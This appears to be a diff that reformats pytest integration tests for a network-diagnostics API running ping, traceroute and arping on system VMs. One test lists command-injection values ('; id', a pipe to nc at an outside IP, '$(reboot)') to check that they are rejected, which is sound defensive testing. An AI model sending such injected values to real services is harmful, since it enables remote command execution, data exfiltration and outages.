@@ -16,8 +16,12 @@ WEB = "198.51.100.80"
 
 
 def post(stack: dict, key: str, body: dict, timeout: float = 60) -> requests.Response:
-    return requests.post(f"{stack['apiUrl']}/diagnostics", json=body, timeout=timeout,
-                         headers={"Authorization": f"Bearer {key}"})
+    return requests.post(
+        f"{stack['apiUrl']}/diagnostics",
+        json=body,
+        timeout=timeout,
+        headers={"Authorization": f"Bearer {key}"},
+    )
 
 
 def vm_id(stack: dict, host: str) -> str:
@@ -26,8 +30,11 @@ def vm_id(stack: dict, host: str) -> str:
 
 @pytest.mark.parametrize("host", ["ssvm", "cpvm", "vr"])
 def test_admin_pings_web_server_from_each_system_vm(local_stack, api_keys, host):
-    response = post(local_stack, api_keys["admin"],
-                    {"targetId": vm_id(local_stack, host), "type": "ping", "ipAddress": WEB, "params": "-c 2"})
+    response = post(
+        local_stack,
+        api_keys["admin"],
+        {"targetId": vm_id(local_stack, host), "type": "ping", "ipAddress": WEB, "params": "-c 2"},
+    )
     assert response.status_code == 200, response.text
     body = response.json()
     assert body["success"] is True and body["exitCode"] == 0 and body["status"] == "succeeded"
@@ -36,14 +43,26 @@ def test_admin_pings_web_server_from_each_system_vm(local_stack, api_keys, host)
     assert body["result"]["rtt_ms"]["avg"] > 0
     assert body["egressKind"] == "public"
     assert f"{WEB}" in body["stdout"]
-    for field in ("id", "targetId", "type", "ipAddress", "stderr", "startedAt", "finishedAt", "durationMs",
-                  "egressInterface"):
+    for field in (
+        "id",
+        "targetId",
+        "type",
+        "ipAddress",
+        "stderr",
+        "startedAt",
+        "finishedAt",
+        "durationMs",
+        "egressInterface",
+    ):
         assert field in body
 
 
 def test_user_traceroutes_from_own_vr_and_sees_router_hops(local_stack, api_keys):
-    response = post(local_stack, api_keys["alice"],
-                    {"targetId": vm_id(local_stack, "vr"), "type": "traceroute", "ipAddress": WEB})
+    response = post(
+        local_stack,
+        api_keys["alice"],
+        {"targetId": vm_id(local_stack, "vr"), "type": "traceroute", "ipAddress": WEB},
+    )
     assert response.status_code == 200, response.text
     hops = response.json()["result"]["hops"]
     addresses = [probe["address"] for hop in hops for probe in hop["probes"] if probe["address"]]
@@ -52,9 +71,16 @@ def test_user_traceroutes_from_own_vr_and_sees_router_hops(local_stack, api_keys
 
 
 def test_arping_from_vr_returns_gateway_mac(local_stack, api_keys, lab_status):
-    response = post(local_stack, api_keys["alice"],
-                    {"targetId": vm_id(local_stack, "vr"), "type": "arping", "ipAddress": "203.0.113.1",
-                     "params": "-c 2"})
+    response = post(
+        local_stack,
+        api_keys["alice"],
+        {
+            "targetId": vm_id(local_stack, "vr"),
+            "type": "arping",
+            "ipAddress": "203.0.113.1",
+            "params": "-c 2",
+        },
+    )
     assert response.status_code == 200, response.text
     body = response.json()
     r1_mac = next(i["mac"] for i in lab_status["hosts"]["r1"]["interfaces"] if i["name"] == "eth0")
@@ -63,10 +89,26 @@ def test_arping_from_vr_returns_gateway_mac(local_stack, api_keys, lab_status):
 
 
 def test_seed_and_cloudstack_field_names_are_accepted(local_stack, api_keys):
-    seed = post(local_stack, api_keys["admin"], {"uuid": vm_id(local_stack, "cpvm"), "diagnosisTest": "ping",
-                                                 "destinationIpAddress": "203.0.113.1", "params": "-c 1"})
-    cloudstack = post(local_stack, api_keys["admin"], {"targetid": vm_id(local_stack, "cpvm"), "type": "ping",
-                                                       "ipaddress": "203.0.113.1", "params": "-c 1"})
+    seed = post(
+        local_stack,
+        api_keys["admin"],
+        {
+            "uuid": vm_id(local_stack, "cpvm"),
+            "diagnosisTest": "ping",
+            "destinationIpAddress": "203.0.113.1",
+            "params": "-c 1",
+        },
+    )
+    cloudstack = post(
+        local_stack,
+        api_keys["admin"],
+        {
+            "targetid": vm_id(local_stack, "cpvm"),
+            "type": "ping",
+            "ipaddress": "203.0.113.1",
+            "params": "-c 1",
+        },
+    )
     assert seed.status_code == 200 and cloudstack.status_code == 200
     assert seed.json()["targetId"] == cloudstack.json()["targetId"] == vm_id(local_stack, "cpvm")
 
@@ -82,8 +124,11 @@ def test_seed_and_cloudstack_field_names_are_accepted(local_stack, api_keys):
     ],
 )
 def test_policy_denials_are_403_with_their_code(local_stack, api_keys, account, host, destination, code):
-    response = post(local_stack, api_keys[account],
-                    {"targetId": vm_id(local_stack, host), "type": "ping", "ipAddress": destination})
+    response = post(
+        local_stack,
+        api_keys[account],
+        {"targetId": vm_id(local_stack, host), "type": "ping", "ipAddress": destination},
+    )
     assert response.status_code == 403, response.text
     assert response.json()["code"] == code
     assert response.json()["message"]
@@ -91,8 +136,11 @@ def test_policy_denials_are_403_with_their_code(local_stack, api_keys, account, 
 
 @pytest.mark.parametrize("params", ["-c 3; id", "-f", "-c 2 | nc 1.2.3.4 80", "$(reboot)"])
 def test_hostile_params_are_400(local_stack, api_keys, params):
-    response = post(local_stack, api_keys["admin"],
-                    {"targetId": vm_id(local_stack, "vr"), "type": "ping", "ipAddress": WEB, "params": params})
+    response = post(
+        local_stack,
+        api_keys["admin"],
+        {"targetId": vm_id(local_stack, "vr"), "type": "ping", "ipAddress": WEB, "params": params},
+    )
     assert response.status_code == 400, response.text
     assert response.json()["code"] == "INVALID_OPTION"
 
@@ -114,14 +162,25 @@ def test_bad_bodies_are_400_naming_the_field(local_stack, api_keys, body, field)
 
 
 def test_unknown_vm_is_404(local_stack, api_keys):
-    response = post(local_stack, api_keys["admin"],
-                    {"targetId": "00000000-0000-0000-0000-000000000000", "type": "ping", "ipAddress": WEB})
+    response = post(
+        local_stack,
+        api_keys["admin"],
+        {"targetId": "00000000-0000-0000-0000-000000000000", "type": "ping", "ipAddress": WEB},
+    )
     assert response.status_code == 404 and response.json()["code"] == "TARGET_NOT_FOUND"
 
 
 def test_run_longer_than_sync_budget_is_refused_with_its_code(local_stack, api_keys):
-    response = post(local_stack, api_keys["admin"], {"targetId": vm_id(local_stack, "vr"), "type": "ping",
-                                                     "ipAddress": WEB, "params": "-c 20 -i 2 -w 60"})
+    response = post(
+        local_stack,
+        api_keys["admin"],
+        {
+            "targetId": vm_id(local_stack, "vr"),
+            "type": "ping",
+            "ipAddress": WEB,
+            "params": "-c 20 -i 2 -w 60",
+        },
+    )
     assert response.status_code == 422 and response.json()["code"] == "SYNC_BUDGET_EXCEEDED"
 
 
@@ -133,8 +192,11 @@ def test_missing_or_unknown_key_is_refused(local_stack):
 
 def test_systemvms_lists_what_the_caller_may_target(local_stack, api_keys):
     def names(account: str) -> set[str]:
-        response = requests.get(f"{local_stack['apiUrl']}/systemvms", timeout=10,
-                                headers={"Authorization": f"Bearer {api_keys[account]}"})
+        response = requests.get(
+            f"{local_stack['apiUrl']}/systemvms",
+            timeout=10,
+            headers={"Authorization": f"Bearer {api_keys[account]}"},
+        )
         assert response.status_code == 200, response.text
         return {vm["name"] for vm in response.json()["systemvms"]}
 
@@ -164,15 +226,21 @@ def test_vm_with_sshd_stopped_gives_502_within_budget(local_stack, api_keys, lab
     lab.stop_sshd("cpvm")
     try:
         started = time.monotonic()
-        response = post(local_stack, api_keys["admin"], {"targetId": vm_id(local_stack, "cpvm"), "type": "ping",
-                                                         "ipAddress": WEB, "params": "-c 1"})
+        response = post(
+            local_stack,
+            api_keys["admin"],
+            {"targetId": vm_id(local_stack, "cpvm"), "type": "ping", "ipAddress": WEB, "params": "-c 1"},
+        )
         assert response.status_code == 502, response.text
         assert response.json()["code"] == "VM_UNREACHABLE"
         assert time.monotonic() - started < 25
     finally:
         lab.start_sshd("cpvm")
-    recovered = post(local_stack, api_keys["admin"], {"targetId": vm_id(local_stack, "cpvm"), "type": "ping",
-                                                      "ipAddress": WEB, "params": "-c 1"})
+    recovered = post(
+        local_stack,
+        api_keys["admin"],
+        {"targetId": vm_id(local_stack, "cpvm"), "type": "ping", "ipAddress": WEB, "params": "-c 1"},
+    )
     assert recovered.status_code == 200, recovered.text
 
 
@@ -186,8 +254,11 @@ def test_changed_host_key_gives_host_key_mismatch_and_runs_nothing(local_stack, 
     before = _runs_logged(lab_status, "ssvm")
     lab.rekey("ssvm")
     try:
-        response = post(local_stack, api_keys["admin"], {"targetId": vm_id(local_stack, "ssvm"), "type": "ping",
-                                                         "ipAddress": WEB, "params": "-c 1"})
+        response = post(
+            local_stack,
+            api_keys["admin"],
+            {"targetId": vm_id(local_stack, "ssvm"), "type": "ping", "ipAddress": WEB, "params": "-c 1"},
+        )
         assert response.status_code == 502, response.text
         assert response.json()["code"] == "HOST_KEY_MISMATCH"
         assert _runs_logged(lab_status, "ssvm") == before
@@ -195,10 +266,15 @@ def test_changed_host_key_gives_host_key_mismatch_and_runs_nothing(local_stack, 
         # The operator re-pins the new key: reload the topology with the lab's fresh state.
         fresh = lab.status()
         dynamodb = boto3.resource("dynamodb", endpoint_url=local_stack["awsEndpointUrl"])
-        store = TopologyStore(dynamodb.Table(local_stack["tables"]["TOPOLOGY_TABLE"]),
-                              dynamodb.Table(local_stack["tables"]["ACCOUNTS_TABLE"]))
+        store = TopologyStore(
+            dynamodb.Table(local_stack["tables"]["TOPOLOGY_TABLE"]),
+            dynamodb.Table(local_stack["tables"]["ACCOUNTS_TABLE"]),
+        )
         load_topology_into_tables(load_topology(fresh["topology"]), store, fresh)
-    repinned = post(local_stack, api_keys["admin"], {"targetId": vm_id(local_stack, "ssvm"), "type": "ping",
-                                                     "ipAddress": WEB, "params": "-c 1"})
+    repinned = post(
+        local_stack,
+        api_keys["admin"],
+        {"targetId": vm_id(local_stack, "ssvm"), "type": "ping", "ipAddress": WEB, "params": "-c 1"},
+    )
     assert repinned.status_code == 200, repinned.text
     assert json.loads(repinned.text)["success"] is True
